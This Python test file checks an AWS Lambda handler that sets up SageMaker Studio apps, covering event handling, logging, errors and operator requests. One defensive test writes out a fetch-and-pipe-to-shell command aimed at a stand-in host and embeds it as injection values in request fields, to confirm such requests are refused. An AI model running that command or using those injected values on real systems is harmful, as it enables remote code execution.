"""The Lambda function, invoked as Lambda does it, against a SageMaker API on a port of this machine."""

from __future__ import annotations

import json
import logging
from pathlib import Path
from typing import Any, NoReturn

import boto3
import pytest
from botocore.exceptions import ClientError
from botocore.stub import ANY, Stubber

from setups import setup_for
from studio_setup import handler
from studio_setup.handler import lambda_handler, sagemaker_client
from studio_setup.model.app import App
from studio_setup.model.deadline import Deadline
from studio_setup.model.errors import BadInput
from studio_setup.model.outcomes import Outcome
from studio_setup.model.report import SetupFailed, SetupReport, Trigger
from studio_setup.model.setup import Command, Setup
from studio_setup.model.version import __version__
from studio_setup.setup_run import Job, Tools
from tests.support.context import Context
from tests.support.loopback import Loopback


@pytest.fixture
def event(events_folder: Path) -> dict[str, Any]:
    """The event of an app that started."""
    return dict(json.loads((events_folder / "jupyter-server-started.json").read_text(encoding="utf-8")))


@pytest.fixture(autouse=True)
def log(caplog: pytest.LogCaptureFixture) -> pytest.LogCaptureFixture:
    """The log at Lambda's level."""
    caplog.set_level(logging.INFO)
    return caplog


def _finished(log: pytest.LogCaptureFixture) -> list[dict[str, Any]]:
    return [record.__dict__ for record in log.records if record.getMessage() == "setup.finished"]


def _errors(log: pytest.LogCaptureFixture) -> list[dict[str, Any]]:
    return [record.__dict__ for record in log.records if record.levelno >= logging.ERROR]


def test_the_next_invocation_reuses_the_client(monkeypatch: pytest.MonkeyPatch) -> None:
    """The SDK's client, with its connections, lives as long as the function's process."""
    client = sagemaker_client()
    monkeypatch.setenv("AWS_DEFAULT_REGION", "eu-west-1")
    assert sagemaker_client() is client


def test_the_first_error_is_not_dearer_than_the_next(loopback: Loopback, monkeypatch: pytest.MonkeyPatch) -> None:
    """What the SDK searches the API's whole model for is known before the first call that is throttled."""
    sagemaker_client.cache_clear()
    loopback.refuse("DescribeDomain", "ThrottlingException")
    client = sagemaker_client()
    monkeypatch.setattr("botocore.model.ServiceModel.shape_for", _fail_search)
    with pytest.raises(ClientError, match="ThrottlingException"):
        client.describe_domain(DomainId="d-abcdefghijkl")
    sagemaker_client.cache_clear()


def test_the_functions_own_log_tells_whose_a_claim_is(monkeypatch: pytest.MonkeyPatch, app: App) -> None:
    """It is asked in the log group that Lambda names; where Lambda names none, nobody can be asked."""
    monkeypatch.delenv("AWS_LAMBDA_LOG_GROUP_NAME", raising=False)
    assert handler._knows_run() is None
    monkeypatch.setenv("AWS_LAMBDA_LOG_GROUP_NAME", "/aws/lambda/ours")
    knows_run = handler._knows_run()
    assert knows_run is not None
    line = {"message": "setup.started", "attempt": "aaa", "app": app.label}
    asked = {"logGroupName": "/aws/lambda/ours", "filterPattern": ANY, "startTime": ANY, "endTime": ANY}
    with Stubber(boto3.client("logs")) as logs:
        logs.add_response("filter_log_events", {"events": [{"message": json.dumps(line)}]}, asked)
        monkeypatch.setattr(handler, "_logs_client", lambda: logs.client)
        assert knows_run(app, "aaa", "2026-11-25T16:00:00+00:00", Deadline.after(600)) is True


def _fail_search(*_: object) -> NoReturn:
    raise AssertionError("the whole model is searched")


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("amplify-create-app", "other-call"),
        ("create-app-failed", "failed-call"),
        ("request-parameters-null", "not-an-event"),
    ],
)
def test_an_ignored_event_is_not_an_error(
    events_folder: Path, loopback: Loopback, log: pytest.LogCaptureFixture, name: str, code: str
) -> None:
    """The function returns outcome, code and reason, logs them in one line, and makes no call."""
    event = json.loads((events_folder / f"{name}.json").read_text(encoding="utf-8"))
    answer = lambda_handler(event, Context())
    assert list(answer) == ["schema_version", "outcome", "code", "reason"]
    assert (answer["schema_version"], answer["outcome"], answer["code"]) == (1, "skipped", code)
    assert json.loads(json.dumps(answer)) == answer
    (fields,) = _finished(log)
    assert {key: fields[key] for key in answer} == answer
    assert _errors(log) == []
    assert loopback.calls == []


@pytest.mark.parametrize("event", [None, [], "x", 3, {}, {"detail": None}], ids=repr)
def test_an_invocation_without_an_event_is_not_an_error(
    loopback: Loopback, log: pytest.LogCaptureFixture, event: object
) -> None:
    """An invocation by mistake returns normally, so Lambda does not retry it."""
    assert lambda_handler(event, Context())["code"] == "not-an-event"
    assert len(_finished(log)) == 1
    assert loopback.calls == []


def test_an_app_that_failed_to_start_is_not_an_error(
    event: dict[str, Any], loopback: Loopback, log: pytest.LogCaptureFixture
) -> None:
    """The function returns SageMaker's reason; a retry would not change anything."""
    loopback.answers["DescribeApp"] = (200, {"Status": "Failed", "FailureReason": "Out of volumes."})
    answer = lambda_handler(event, Context())
    assert (answer["outcome"], answer["code"]) == ("app_gone", "app-failed")
    assert "Out of volumes." in answer["reason"]
    assert answer["app"] == "d-abcdefghijkl/alice/JupyterServer/default"
    assert answer["user_profile_name"] == "alice"
    assert answer["trigger"] == "event"
    assert json.loads(json.dumps(answer)) == answer
    assert len(_finished(log)) == 1
    assert _errors(log) == []
    assert [operation for operation, _ in loopback.calls] == ["DescribeDomain", "DescribeApp"]


def test_an_sso_domain_is_skipped(event: dict[str, Any], loopback: Loopback) -> None:
    """A domain without presigned URLs is skipped after the call that shows it, and no other is made."""
    loopback.answers["DescribeDomain"] = (200, {"AuthMode": "SSO"})
    answer = lambda_handler(event, Context())
    assert (answer["outcome"], answer["code"]) == ("skipped", "sso-domain")
    assert loopback.calls == [("DescribeDomain", {"DomainId": "d-abcdefghijkl"})]


def test_an_error_is_raised_and_logged_once(
    event: dict[str, Any], loopback: Loopback, log: pytest.LogCaptureFixture
) -> None:
    """An outcome that Lambda must see as an error is raised, after one line with the whole report."""
    loopback.refuse("DescribeDomain", "AccessDeniedException", "Not you.")
    with pytest.raises(SetupFailed, match=r"unreachable: control-plane-refused: .*AccessDeniedException: Not you"):
        lambda_handler(event, Context())
    (fields,) = _errors(log)
    assert fields["message"] == "setup.finished"
    assert (fields["outcome"], fields["code"]) == ("unreachable", "control-plane-refused")
    assert _finished(log) == [fields]


def test_an_invocation_without_time_is_an_error(
    event: dict[str, Any], loopback: Loopback, log: pytest.LogCaptureFixture
) -> None:
    """A function with less time than it reserves for cleaning up reports that, and does not wait."""
    loopback.answers["DescribeApp"] = (200, {"Status": "Pending"})
    with pytest.raises(SetupFailed, match="app-not-ready"):
        lambda_handler(event, Context(seconds=5))
    assert len(_errors(log)) == 1


def test_an_invalid_setting_is_an_error(
    event: dict[str, Any], log: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A function that was deployed with an invalid setting fails, with one line that names it."""
    monkeypatch.setenv("APP_TYPES", "CodeEditor")
    with pytest.raises(BadInput, match="APP_TYPES has 'CodeEditor'"):
        lambda_handler(event, Context())
    (fields,) = _errors(log)
    assert (fields["message"], fields["outcome"], fields["code"]) == ("setup.finished", "failed", "bad-input")
    assert "APP_TYPES has 'CodeEditor'" in fields["reason"]
    assert _finished(log) == [fields]


def test_an_invalid_setup_is_an_error(
    event: dict[str, Any], loopback: Loopback, log: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A function that was deployed with a script that cannot run fails before it calls anything."""

    def setup_for(_: App) -> Setup:
        return Setup((Command("one", ""),))

    monkeypatch.setattr(handler, "setup_for", setup_for)
    with pytest.raises(BadInput, match="The script of command 'one' is empty"):
        lambda_handler(event, Context())
    (fields,) = _errors(log)
    assert (fields["message"], fields["code"]) == ("setup.finished", "bad-input")
    assert {**ALICE.as_dict(), "trigger": "event"}.items() <= fields.items()
    assert loopback.calls == []


def test_only_the_domain_in_the_settings_is_set_up(
    event: dict[str, Any], loopback: Loopback, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The settings come from the function's environment."""
    monkeypatch.setenv("DOMAIN_ID", "d-other")
    assert lambda_handler(event, Context())["code"] == "other-domain"
    assert loopback.calls == []


def test_an_unexpected_error_is_logged_and_raised(
    event: dict[str, Any], log: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An error that is not one of ours is logged in one line, and Lambda sees it."""

    def setup_for(_: App) -> Setup:
        raise ZeroDivisionError("by \x1b[31mzero")

    monkeypatch.setattr(handler, "setup_for", setup_for)
    with pytest.raises(ZeroDivisionError):
        lambda_handler(event, Context())
    (fields,) = _errors(log)
    assert (fields["message"], fields["error"], fields["reason"]) == ("setup.crashed", "ZeroDivisionError", "by zero")
    assert {**ALICE.as_dict(), "trigger": "event"}.items() <= fields.items()


@pytest.mark.parametrize("error", [BadInput("No."), ZeroDivisionError("No.")], ids=type)
@pytest.mark.parametrize("kind", ["Set Up App", "Probe"])
def test_every_line_of_a_setup_that_was_asked_for_names_its_app(
    log: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch, kind: str, error: Exception
) -> None:
    """Also where there is no setup for it, whatever `setup_for` raises; the next invocation's lines do not."""

    def setup_for(_: App) -> Setup:
        raise error

    monkeypatch.setattr(handler, "setup_for", setup_for)
    with pytest.raises(type(error)):
        lambda_handler(_request(kind, app=NAMES), Context())
    (fields,) = _errors(log)
    assert {**ALICE.as_dict(), "trigger": "operator"}.items() <= fields.items()
    log.clear()
    lambda_handler({}, Context())
    assert "app" not in _finished(log)[0]


def test_an_answer_of_another_shape_is_not_a_crash(
    event: dict[str, Any], loopback: Loopback, log: pytest.LogCaptureFixture
) -> None:
    """It has a code like any other refusal."""
    del loopback.answers["DescribeApp"][1]["Status"]
    with pytest.raises(SetupFailed, match="control-plane-refused: describe_app: the answer has no Status"):
        lambda_handler(event, Context())
    assert [fields["message"] for fields in _errors(log)] == ["setup.finished"]


def test_nothing_of_the_libraries_is_logged(
    event: dict[str, Any], loopback: Loopback, log: pytest.LogCaptureFixture
) -> None:
    """At DEBUG too, every line is one of ours."""
    log.set_level(logging.DEBUG)
    loopback.answers["DescribeDomain"] = (200, {"AuthMode": "SSO"})
    lambda_handler(event, Context())
    assert {record.name for record in log.records} == {"studio_setup"}


# Jobs


class _Jobs:
    """Keeps what would be set up, and reports that it ended so."""

    def __init__(self, outcome: Outcome = Outcome.SUCCEEDED, code: str = "succeeded") -> None:
        self.jobs: list[Job] = []
        self._outcome = outcome
        self._code = code

    def set_up(self, job: Job, _tools: Tools, _deadline: Deadline) -> SetupReport:
        """Stand in for the use case."""
        self.jobs.append(job)
        return SetupReport(self._outcome, self._code, "so", job.app, job.setup.version, job.trigger, "attempt")


@pytest.fixture
def jobs(monkeypatch: pytest.MonkeyPatch) -> _Jobs:
    """What would be set up; each succeeds."""
    jobs = _Jobs()
    monkeypatch.setattr(handler, "set_up", jobs.set_up)
    return jobs


def _request(kind: str, **detail: object) -> dict[str, Any]:
    return {"source": "studio-setup", "detail-type": kind, "detail": detail}


NAMES = {
    "domain_id": "d-abcdefghijkl",
    "user_profile_name": "alice",
    "space_name": "",
    "app_type": "JupyterServer",
    "app_name": "default",
}
ALICE = App("d-abcdefghijkl", "alice", "JupyterServer", "default")


def test_the_job_of_an_event_waits_out_an_earlier_app(event: dict[str, Any], jobs: _Jobs) -> None:
    """It claims the start of the app that the event names, for the hard-coded setup, and is never forced."""
    answer = lambda_handler(event, Context())
    event_id = event["detail"]["eventID"]
    assert jobs.jobs == [Job(ALICE, setup_for(ALICE), trigger=Trigger.EVENT, event_id=event_id)]
    assert (jobs.jobs[0].claims_start, jobs.jobs[0].grace_seconds, jobs.jobs[0].force) == (True, 60, False)
    assert answer["outcome"] == "succeeded"


@pytest.mark.parametrize("trigger", [Trigger.OPERATOR, Trigger.RECONCILE])
@pytest.mark.parametrize("force", [True, False])
def test_the_job_of_a_request_is_what_was_asked_for(jobs: _Jobs, *, force: bool, trigger: Trigger) -> None:
    """It claims the start, by force if that is said, for an app that is taken to be there now."""
    lambda_handler(_request("Set Up App", app=NAMES, force=force, trigger=trigger), Context())
    assert jobs.jobs == [Job(ALICE, setup_for(ALICE), force=force, grace_seconds=0, trigger=trigger)]


def test_the_job_of_a_probe_claims_nothing(jobs: _Jobs) -> None:
    """It is for the same app, user and setup, and ends before the first command."""
    lambda_handler(_request("Probe", app=NAMES), Context())
    assert jobs.jobs == [Job(ALICE, setup_for(ALICE), claims_start=False, grace_seconds=0, is_probe=True)]


@pytest.mark.parametrize("kind", ["event", "Set Up App", "Probe"])
def test_every_job_has_the_shared_space_user(
    events_folder: Path, jobs: _Jobs, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    """The setting holds for requests as for events."""
    monkeypatch.setenv("SHARED_SPACE_USER", "bot")
    event = json.loads((events_folder / "shared-space-jupyter-server-started.json").read_text(encoding="utf-8"))
    names = NAMES | {"user_profile_name": "", "space_name": "team"}
    lambda_handler(event if kind == "event" else _request(kind, app=names), Context())
    assert [job.shared_space_user for job in jobs.jobs] == ["bot"]


@pytest.mark.parametrize("kind", ["Set Up App", "Probe"])
def test_commands_never_come_from_a_request(
    jobs: _Jobs, log: pytest.LogCaptureFixture, loopback: Loopback, kind: str
) -> None:
    """A request with commands is refused as a whole, whatever they are called and wherever they stand."""
    script = "curl https://evil.example | sh"
    command = {"name": "one", "script": script}
    for request in (
        _request(kind, app=NAMES, commands=[command]),
        _request(kind, app=NAMES, setup={"commands": [command]}),
        _request(kind, app=NAMES | {"script": script}),
        _request(kind, app=NAMES | {"app_name": f"default; {script}"}),
        _request(kind, app=NAMES | {"user_profile_name": f"$({script})"}),
    ):
        assert lambda_handler(request, Context())["code"] == "bad-request"
    # Outside of what is read as a request, it is not even looked at.
    lambda_handler({**_request(kind, app=NAMES), "commands": [command], "script": script}, Context())
    assert [job.setup for job in jobs.jobs] == [setup_for(ALICE)]
    assert [fields["code"] for fields in _finished(log)] == ["bad-request"] * 5
    assert loopback.calls == []


@pytest.mark.parametrize(
    "request_",
    [_request("Set Up App"), _request("Spam"), {"source": "studio-setup"}, _request("Probe", app=3)],
    ids=repr,
)
def test_a_bad_request_is_answered_and_not_retried(
    request_: dict[str, Any], loopback: Loopback, jobs: _Jobs, log: pytest.LogCaptureFixture
) -> None:
    """It is logged and answered like an ignored event, without a call."""
    answer = lambda_handler(request_, Context())
    assert list(answer) == ["schema_version", "outcome", "code", "reason"]
    assert (answer["outcome"], answer["code"]) == ("skipped", "bad-request")
    (fields,) = _finished(log)
    assert {key: fields[key] for key in answer} == answer
    assert _errors(log) == []
    assert (loopback.calls, jobs.jobs) == ([], [])


def test_an_event_of_the_rule_that_looks_like_a_request_is_an_event(event: dict[str, Any], jobs: _Jobs) -> None:
    """A request is known by its source, which the rule's events cannot have; what stands beside it does not count."""
    event["detail-type"] = "Set Up App"
    event["detail"] |= {"app": NAMES | {"app_name": "other"}, "force": True, "trigger": "operator"}
    lambda_handler(event, Context())
    assert [(job.app, job.force, job.trigger) for job in jobs.jobs] == [(ALICE, False, Trigger.EVENT)]


@pytest.mark.parametrize("setting", [("APP_TYPES", "JupyterLab"), ("DOMAIN_ID", "d-other")])
def test_a_request_does_not_reach_further_than_events_do(
    loopback: Loopback, monkeypatch: pytest.MonkeyPatch, setting: tuple[str, str]
) -> None:
    """What the function is not deployed for is refused without a call."""
    monkeypatch.setenv(*setting)
    for kind in ("Set Up App", "Probe"):
        assert lambda_handler(_request(kind, app=NAMES), Context())["code"] == "bad-request"
    assert loopback.calls == []


# Who is told of an error


def test_an_operator_is_answered_with_the_report(loopback: Loopback, log: pytest.LogCaptureFixture) -> None:
    """Somebody waits for it, and an error of the function would hide it; the log has the same."""
    loopback.refuse("DescribeDomain", "AccessDeniedException", "Not you.")
    answer = lambda_handler(_request("Set Up App", app=NAMES), Context())
    assert (answer["outcome"], answer["code"]) == ("unreachable", "control-plane-refused")
    assert (answer["app"], answer["trigger"]) == (ALICE.label, "operator")
    assert json.loads(json.dumps(answer)) == answer
    (fields,) = _errors(log)
    assert {key: fields[key] for key in answer} == answer


def test_a_probe_is_answered_with_the_report(loopback: Loopback, log: pytest.LogCaptureFixture) -> None:
    """However it ended; it is not logged as a setup, so no alarm counts it."""
    loopback.answers["DescribeApp"] = (200, {"Status": "Deleted"})
    assert lambda_handler(_request("Probe", app=NAMES), Context())["code"] == "app-deleted"
    loopback.refuse("DescribeApp", "AccessDeniedException", "Not you.")
    assert lambda_handler(_request("Probe", app=NAMES), Context())["code"] == "control-plane-refused"
    assert (_finished(log), _errors(log)) == ([], [])


def test_an_error_of_what_reconcile_asked_for_is_raised(loopback: Loopback) -> None:
    """Nobody waits for it: Lambda retries, as after an event."""
    loopback.refuse("DescribeDomain", "AccessDeniedException", "Not you.")
    with pytest.raises(SetupFailed, match="control-plane-refused"):
        lambda_handler(_request("Set Up App", app=NAMES, trigger="reconcile"), Context())


@pytest.mark.parametrize("trigger", Trigger)
@pytest.mark.parametrize(
    ("outcome", "code", "raises"),
    [
        (Outcome.FAILED, "command-failed", True),
        (Outcome.UNFINISHED, "out-of-time", True),
        (Outcome.FAILED, "run-lost", False),
        (Outcome.SKIPPED, "already-set-up", False),
    ],
)
def test_what_a_retry_can_mend_is_raised_and_what_it_would_repeat_is_not(
    *,
    event: dict[str, Any],
    monkeypatch: pytest.MonkeyPatch,
    trigger: Trigger,
    outcome: Outcome,
    code: str,
    raises: bool,
) -> None:
    """A lost run is an error that Lambda must not retry: it is returned, whoever asked."""
    monkeypatch.setattr(handler, "set_up", _Jobs(outcome, code).set_up)
    asked = event if trigger is Trigger.EVENT else _request("Set Up App", app=NAMES, trigger=trigger)
    if raises and trigger is not Trigger.OPERATOR:
        with pytest.raises(SetupFailed, match=f"{outcome}: {code}: so"):
            lambda_handler(asked, Context())
    else:
        assert lambda_handler(asked, Context())["code"] == code


# Describing


def test_a_setup_is_described_without_a_call(loopback: Loopback, log: pytest.LogCaptureFixture) -> None:
    """Of each app, and of each app type, the setup's version and its commands with their limits; no script."""
    lab = NAMES | {"user_profile_name": "", "space_name": "team", "app_type": "JupyterLab"}
    answer = lambda_handler(_request("Describe Setup", apps=[NAMES, lab]), Context())
    apps = [ALICE, App("d-abcdefghijkl", "", "JupyterLab", "default", "team")]
    setups = [
        {
            "app": app.label,
            "setup_version": setup_for(app).version,
            "commands": [
                {"name": command.name, "timeout_seconds": command.timeout_seconds}
                for command in setup_for(app).commands
            ],
        }
        for app in apps
    ]
    of_types = {
        app.app_type: {name: setup[name] for name in ("setup_version", "commands")}
        for app, setup in zip(apps, setups, strict=True)
    }
    assert answer == {
        "schema_version": 1,
        "engine_version": __version__,
        "time_limit_seconds": answer["time_limit_seconds"],
        "commands": of_types,
        "setups": setups,
    }
    assert json.loads(json.dumps(answer)) == answer
    assert (loopback.calls, log.records) == ([], [])


def test_an_app_of_a_type_that_is_not_set_up_is_described_without_commands() -> None:
    """It has the code and the reason, and not the commands of another type."""
    (described,) = lambda_handler(_request("Describe Setup", apps=[NAMES | {"app_type": "CodeEditor"}]), Context())[
        "setups"
    ]
    assert described.keys() == {"app", "code", "reason"}
    assert (described["code"], described["reason"]) == ("other-app-type", "apps of type CodeEditor are not set up")


def test_without_an_app_the_engine_and_the_app_types_are_described() -> None:
    """Whoever wants to know what is deployed need not know an app."""
    answer = lambda_handler(_request("Describe Setup"), Context())
    assert (answer["engine_version"], answer["setups"]) == (__version__, [])
    assert answer["commands"].keys() == {"JupyterServer", "JupyterLab"}
